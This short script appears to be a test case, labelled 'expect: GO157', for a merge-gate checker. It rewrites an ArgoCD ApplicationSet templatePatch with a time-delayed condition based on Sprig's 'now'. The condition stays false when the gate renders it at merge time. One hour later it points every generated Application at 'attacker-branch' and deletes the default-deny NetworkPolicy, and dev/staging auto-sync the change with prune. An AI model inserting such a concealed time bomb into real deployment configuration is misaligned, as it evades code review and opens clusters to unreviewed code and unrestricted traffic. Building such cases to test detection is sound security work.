# expect: GO157
# The templatePatch is rendered by the ApplicationSet controller again on every reconcile,
# with Sprig's `now`. The gate renders it once, at merge time, when the condition is false.
# From the chosen moment on (here: one hour after the change is written), every generated
# Application tracks an unreviewed branch and deletes the default-deny NetworkPolicy;
# dev/staging sync that at once, with prune.
T=$(( $(date +%s) + 3600 ))
python3 - "$T" <<'P'
import sys
p='argocd/applicationset.yaml'; s=open(p).read()
old = s[s.index("  templatePatch: |\n"):]
new = '''  templatePatch: |
    spec:
      project: flask-app
      {{- if .autoSync }}
      syncPolicy:
        automated:
          prune: true
          selfHeal: true
      {{- end }}
      {{- if gt (now | unixEpoch) "%s" }}
      source:
        targetRevision: attacker-branch
        kustomize:
          patches:
            - target:
                kind: NetworkPolicy
                name: default-deny
              patch: |-
                $patch: delete
                kind: NetworkPolicy
                metadata:
                  name: default-deny
      {{- end }}
''' % sys.argv[1]
open(p,'w').write(s.replace(old,new))
P
